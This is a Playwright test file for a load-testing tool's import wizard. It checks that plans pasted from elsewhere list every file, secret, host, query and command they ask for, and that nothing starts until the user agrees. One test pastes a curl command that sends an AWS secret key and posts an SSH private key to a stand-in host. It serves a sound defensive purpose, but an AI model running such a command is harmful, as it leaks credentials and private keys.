import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { stringify } from 'yaml';
import { listAsks, needsAgreement } from '#core/review/asks/ask.ts';
import { groupAsks, KIND_WORDS } from '#core/review/asks/labels.ts';
import { planSchema } from '#core/plan/schema/plan.ts';
import { expect, test } from '../fixtures.ts';
import { look } from '../look.ts';
import { WizardPage } from '../pages/WizardPage.ts';

const AGREE = 'I have read this and agree to it.';

test('a foreign plan can be tried and started only after the user has agreed to it', async ({ app, contest, home }) => {
  const { page } = app;
  const wizard = new WizardPage(page);
  const list = join(home, 'names.csv');
  await writeFile(list, 'name\nada\n');
  const plan = {
    holdfast: 1,
    name: 'From elsewhere',
    targets: [{ url: contest.urls[0] ?? '' }],
    journey: [{ name: 'page', path: '?who={{people.name}}' }],
    feeds: { people: { file: list } },
    load: { model: 'connections', stages: [{ connections: 1, requests: 5 }] },
    safety: { consentedHosts: ['127.0.0.1'] },
  };
  await wizard.open();
  await page.getByRole('textbox', { name: 'Enter a URL or paste a command' }).fill(stringify(plan));
  await page.getByRole('button', { name: 'Next', exact: true }).click();
  await expect(wizard.heading('How much load?')).toBeVisible();

  const card = page.getByRole('region', { name: 'Permissions' });
  await expect(card.getByText(list)).toBeVisible();
  const trial = page.getByRole('region', { name: 'Trial by one user' });
  await wizard.next('Ready to start?');
  await expect(wizard.startButton).toBeDisabled();
  await expect(trial).toHaveCount(0);
  await card.getByRole('checkbox', { name: AGREE }).press('Space');
  await expect(wizard.startButton).toBeEnabled();
  await wizard.endOfTrial();
  await wizard.openChecks();
  await expect(trial).toBeVisible();
  await wizard.start();

  // The same plan is opened again, and Holdfast remembers that the user has agreed.
  await wizard.open();
  await page.getByRole('textbox', { name: 'Enter a URL or paste a command' }).fill(stringify(plan));
  await page.getByRole('button', { name: 'Next', exact: true }).click();
  await expect(wizard.heading('How much load?')).toBeVisible();
  await wizard.next('Ready to start?');
  await wizard.endOfTrial();
});

test('an import first shows what its plan asks for, and asks for missing values', async ({ app }) => {
  const { page } = app;
  await new WizardPage(page).open();
  await page
    .getByRole('textbox', { name: 'Enter a URL or paste a command' })
    .fill('curl -H "X-Key: $AWS_SECRET_ACCESS_KEY" --data @/home/me/.ssh/id_rsa http://shop.example/');
  await expect(page.getByText('/home/me/.ssh/id_rsa', { exact: true })).toBeVisible();
  await expect(page.getByText('shop.example', { exact: true })).toBeVisible();
  await expect(page.getByLabel('AWS_SECRET_ACCESS_KEY')).toBeVisible();
  await look(page, 'consent-import');
});

test('a pasted plan starts only after everything that it asks for was shown, as the terminal shows it', async ({ app, home }) => {
  const { page } = app;
  const wizard = new WizardPage(page);
  const plan = planSchema.parse({
    holdfast: 1,
    name: 'From elsewhere, with everything',
    targets: [
      { url: 'http://shop.example/', headers: { 'X-Key': { secret: 'env:SHOP_KEY' }, 'X-File': { secret: 'file:~/.ssh/id_rsa' } } },
    ],
    journey: [{ name: 'page', path: '?who={{people.name}}' }],
    feeds: { people: { file: join(home, 'people.csv') } },
    monitors: [
      { kind: 'machine', host: 'db.example' },
      { kind: 'redis', address: '/run/redis.sock' },
    ],
    stored: [
      { name: 'rows', step: 'page', sql: 'select count(*) from rows', connection: 'postgres://app@db.internal/shop' },
      { name: 'files', step: 'page', command: 'ls /srv | wc -l' },
    ],
    load: { model: 'connections', stages: [{ connections: 1, requests: 5 }] },
  });
  await wizard.open();
  await page.getByRole('textbox', { name: 'Enter a URL or paste a command' }).fill(stringify(plan));
  await page.getByRole('button', { name: 'Next', exact: true }).click();
  await expect(wizard.heading('How much load?')).toBeVisible();
  await wizard.next('Ready to start?');
  const card = page.getByRole('region', { name: 'Permissions' });
  const asks = listAsks({ plan }).filter(needsAgreement);
  expect(new Set(asks.map(({ kind }) => kind))).toEqual(new Set(['host', 'socket', 'ssh', 'file', 'env', 'query', 'command']));
  for (const { kind, asks: all } of groupAsks(asks)) {
    await expect(card.getByText(KIND_WORDS[kind], { exact: true })).toBeVisible();
    for (const { name } of all) await expect(card.getByText(name, { exact: true }).first()).toBeVisible();
  }
  await expect(wizard.startButton).toBeDisabled();
  await look(page, 'consent');
});
